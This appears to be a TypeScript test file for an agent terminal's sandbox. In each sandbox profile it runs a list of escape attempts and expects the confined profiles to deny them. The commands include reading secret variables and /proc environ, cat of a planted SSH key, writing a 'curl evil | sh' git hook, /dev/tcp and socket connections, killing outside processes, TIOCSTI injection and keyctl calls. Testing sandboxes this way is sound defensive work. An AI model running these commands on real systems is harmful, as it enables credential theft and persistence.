/**
 * The attempt list of docs/security.md, run for real in each sandbox profile: read a secret (a variable, a
 * host process's environ, a credential file), write outside the workspace or into the repository's hooks,
 * reach the network (the host's loopback, a socket in the host's /run, an abstract socket, another machine),
 * signal a process outside, reach another owner's session, and the kernel attacks (TIOCSTI, a user
 * namespace, the keyring). Every attack is denied in the confined profiles but the ones a profile allows by
 * design (the host's loopback with `--network host`); `danger-full-access` is the contrast. The transcript is
 * written to build/security-attempts.md (pasted into the docs).
 */
import { Errors, Ids, PtyService, Sandbox } from "@agent-terminal/core"
import { NodeTerminal } from "@agent-terminal/node"
import { afterAll, expect, layer } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as childProcess from "node:child_process"
import * as fs from "node:fs"
import * as path from "node:path"
import { alive, testConfig } from "../support/terminal.js"
import { failureOf, loopbackServer, makeWorkspace, openAs } from "./support.js"
import { abstractServer, canMakeTestHost, testHost, unixServer } from "./testHost.js"

const workspace = makeWorkspace("attempts")
childProcess.execFileSync("git", ["init", "-q"], { cwd: workspace })
fs.mkdirSync(path.join(process.cwd(), "build"), { recursive: true })
const home = fs.mkdtempSync(path.join(process.cwd(), "build", "at-attempts-home-"))
fs.mkdirSync(path.join(home, ".ssh"))
fs.writeFileSync(path.join(home, ".ssh", "id_test"), "PLANTED-PRIVATE-KEY\n")
const realHome = process.env.HOME
process.env.HOME = home
afterAll(() => {
  process.env.HOME = realHome
  fs.rmSync(home, { recursive: true, force: true })
})

const secret = `s3cr3t-${process.pid}-attempt`
const hostEnv = { ...process.env, DEPLOY_TOKEN: secret, GITHUB_PAT: `ghp_${secret}` }
const transcript: Array<string> = []
const runSocket = `/run/agent-terminal-attempt-${process.pid}.sock`
const hasNetworkTool = ["pasta", "slirp4netns"].some((name) =>
  (process.env.PATH ?? "").split(":").some((dir) => dir !== "" && fs.existsSync(`${dir}/${name}`))
)
const keyctlNumber = process.arch === "arm64" ? 219 : 250

interface Profile {
  readonly label: string
  readonly mode: Sandbox.Mode
  readonly network: Sandbox.NetworkMode
}

const profiles: ReadonlyArray<Profile> = [
  { label: "read-only", mode: "read-only", network: "off" },
  { label: "workspace-write", mode: "workspace-write", network: "off" },
  ...(hasNetworkTool
    ? [{ label: "workspace-write, network isolated", mode: "workspace-write", network: "isolated" } as const]
    : []),
  { label: "workspace-write, network host", mode: "workspace-write", network: "host" },
  { label: "danger-full-access", mode: "danger-full-access", network: "host" }
]

const cell = (text: string) => text.replace(/\n/g, " ⏎ ").replace(/\|/g, "\\|").slice(0, 160)
const record = (profile: string, attempt: string, command: string, result: string, denied: boolean) => {
  transcript.push(
    `| ${profile} | ${attempt} | \`${command.replace(/\|/g, "\\|")}\` | ${cell(result)} | ${
      denied ? "**denied**" : "allowed"
    } |`
  )
}

layer(
  NodeTerminal.layer(testConfig, { hostEnv, sandbox: { mode: "workspace-write", workspace } }),
  { excludeTestServices: true }
)("attempts (docs/security.md)", (it) => {
  for (const profile of profiles) {
    it.scoped(`in ${profile.label}`, () =>
      Effect.gen(function*() {
        const service = yield* PtyService.PtyService
        const attacker = Ids.OwnerId.make(`attacker-${profile.label}`)
        const victim = Ids.OwnerId.make(`victim-${profile.label}`)
        const policy: Sandbox.Policy = { mode: profile.mode, network: profile.network, workspace }
        yield* service.configureSandbox(attacker, policy)
        yield* service.configureSandbox(victim, policy)
        const confined = Sandbox.isConfined(profile.mode)
        const label = profile.label

        const holder = childProcess.spawn("sleep", ["1000"], { env: { ...process.env, DEPLOY_TOKEN: secret } })
        yield* Effect.addFinalizer(() => Effect.sync(() => holder.kill("SIGKILL")))
        const server = yield* loopbackServer
        const socket = yield* unixServer(runSocket)
        const abstract = yield* abstractServer
        const other = canMakeTestHost() ? yield* testHost : undefined
        const theirs = yield* openAs(victim, { name: "victim", cwd: workspace })
        const { send } = yield* openAs(attacker, { name: "attacker", cwd: workspace })

        const variable = "echo \"[${DEPLOY_TOKEN-unset}] [${GITHUB_PAT-unset}]\""
        const readVariable = (yield* send(variable)).output
        record(label, "read secret variables", variable, readVariable, readVariable === "[unset] [unset]")
        expect(readVariable).toBe("[unset] [unset]")

        const environ = `grep -l ${secret} /proc/[0-9]*/environ 2>/dev/null | wc -l`
        const readEnviron = (yield* send(environ)).output
        record(
          label,
          "read a secret from a host process's /proc/<pid>/environ",
          environ,
          readEnviron,
          readEnviron === "0"
        )
        if (confined) expect(readEnviron).toBe("0")

        const key = "cat ~/.ssh/id_test"
        const readKey = (yield* send(key)).output
        const keyDenied = !readKey.includes("PLANTED")
        record(label, "read a planted ~/.ssh/id_test", key, readKey, keyDenied)
        if (confined) expect(keyDenied).toBe(true)

        const target = path.join(home, `.agent-terminal-attempt-${process.pid}`)
        const write = `echo x > /etc/agent-terminal-attempt; echo x > ${target}`
        const wrote = (yield* send(write)).output
        const escaped = fs.existsSync("/etc/agent-terminal-attempt") || fs.existsSync(target)
        fs.rmSync("/etc/agent-terminal-attempt", { force: true })
        fs.rmSync(target, { force: true })
        record(label, "write outside the workspace (/etc, home)", write, wrote || "(no error)", !escaped)
        if (confined) expect(escaped).toBe(false)

        const hookFile = path.join(workspace, ".git", "hooks", "pre-commit")
        const hook = "echo 'curl evil | sh' > .git/hooks/pre-commit"
        const hooked = (yield* send(hook)).output
        const planted = fs.existsSync(hookFile)
        fs.rmSync(hookFile, { force: true })
        record(label, "plant a git hook in the workspace's repository", hook, hooked || "(no error)", !planted)
        if (confined) expect(planted).toBe(false)

        const connect = `(exec 3<>/dev/tcp/127.0.0.1/${server.port} && head -1 <&3) || echo REFUSED`
        const connected = (yield* send(connect)).output
        record(label, "reach a TCP server on the host's loopback", connect, connected, server.connections() === 0)
        if (confined && profile.network !== "host") expect(server.connections()).toBe(0)

        const unix =
          `python3 -c "import socket; s = socket.socket(socket.AF_UNIX); s.connect('${runSocket}'); print(s.recv(64).decode().strip())" 2>&1 | tail -1`
        const unixed = (yield* send(unix)).output
        record(label, "connect to a Unix socket in the host's /run", unix, unixed, socket.connections() === 0)
        if (confined) expect(socket.connections()).toBe(0)

        const abstractCommand =
          `python3 -c "import socket; s = socket.socket(socket.AF_UNIX); s.connect('\\0${abstract.name}'); print(s.recv(64).decode().strip())" 2>&1 | tail -1`
        const abstracted = (yield* send(abstractCommand)).output
        record(
          label,
          "connect to an abstract Unix socket of the host",
          abstractCommand,
          abstracted,
          abstract.connections() === 0
        )
        if (confined && profile.network !== "host") expect(abstract.connections()).toBe(0)

        if (other !== undefined) {
          const reach = `(exec 3<>/dev/tcp/${other.address}/${other.port} && head -1 <&3) 2>&1 || echo REFUSED`
          const reached = (yield* send(reach)).output
          const got = reached.includes("hello from the test host")
          transcript.push(
            `| ${label} | reach another machine (a test host, ip netns) | \`${reach.replace(/\|/g, "\\|")}\` | ${
              cell(reached)
            } | ${got ? "reachable" : "unreachable"} |`
          )
          if (profile.network === "off" && confined) expect(got).toBe(false)
          if (profile.network === "isolated") expect(got).toBe(true)
        }

        const kill = `kill -TERM ${holder.pid}`
        const killed = (yield* send(kill)).output
        yield* Effect.sleep(100)
        const survived = alive(holder.pid!)
        record(label, "signal a process outside the sandbox", kill, killed || "(no error)", survived)
        if (confined) expect(survived).toBe(true)

        const sibling = `kill -KILL ${theirs.opened.pid}`
        const hit = (yield* send(sibling)).output
        yield* Effect.sleep(100)
        const siblingAlive = alive(theirs.opened.pid)
        record(
          label,
          "kill another owner's shell process from inside a session",
          sibling,
          hit || "(no error)",
          siblingAlive
        )
        if (confined) expect(siblingAlive).toBe(true)

        const tiocsti =
          "python3 -c \"import fcntl, termios; fcntl.ioctl(0, termios.TIOCSTI, b' ')\" 2>&1 | tail -1; echo status $?"
        if (confined) {
          const injected = (yield* send(tiocsti)).output
          const refused = injected.includes("Operation not permitted")
          record(label, "push input into the terminal (TIOCSTI)", tiocsti, injected, refused)
          expect(refused).toBe(true)
        }

        const userns = "unshare -U true 2>&1; echo status $?"
        const unshared = (yield* send(userns)).output
        record(label, "make a user namespace", userns, unshared, !unshared.endsWith("status 0"))
        if (confined) expect(unshared.endsWith("status 0")).toBe(false)

        const keyctl = `python3 -c "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); ` +
          `r = libc.syscall(${keyctlNumber}, 0, -3, 0); print(r, os.strerror(ctypes.get_errno()) if r < 0 else 'ok')"`
        const keyring = (yield* send(keyctl)).output
        record(label, "reach the kernel keyring (keyctl)", keyctl, keyring, !keyring.endsWith("ok"))
        if (confined) expect(keyring).toBe("-1 Operation not permitted")

        const id = Ids.SessionId.make(theirs.opened.sessionId)
        const foreign = [
          ["list", (yield* service.list(attacker)).some((s) => s.sessionId === id) ? "visible" : "not listed"],
          ["read", failureOf(yield* Effect.exit(service.read(attacker, id, {})))?._tag ?? "ok"],
          ["send", failureOf(yield* Effect.exit(service.send(attacker, id, { text: "id" })))?._tag ?? "ok"],
          ["signal", failureOf(yield* Effect.exit(service.signal(attacker, id, "SIGINT")))?._tag ?? "ok"],
          ["close", failureOf(yield* Effect.exit(service.close(attacker, id)))?._tag ?? "ok"]
        ] as const
        const denied = foreign.every(([op, outcome]) =>
          op === "list" ? outcome === "not listed" : outcome === "ForeignSession"
        )
        record(
          label,
          "reach another owner's session through the service",
          "list / read / send / signal / close",
          foreign.map(([op, outcome]) => `${op}: ${outcome}`).join(", "),
          denied
        )
        expect(denied).toBe(true)
        expect(failureOf(yield* Effect.exit(service.read(attacker, id, {})))).toBeInstanceOf(Errors.ForeignSession)
      }))
  }

  it.effect("writes the transcript", () =>
    Effect.sync(() => {
      fs.mkdirSync("build", { recursive: true })
      fs.writeFileSync(
        "build/security-attempts.md",
        ["| profile | attempt | command | what it returned | verdict |", "|---|---|---|---|---|", ...transcript].join(
          "\n"
        ) + "\n"
      )
    }))
})
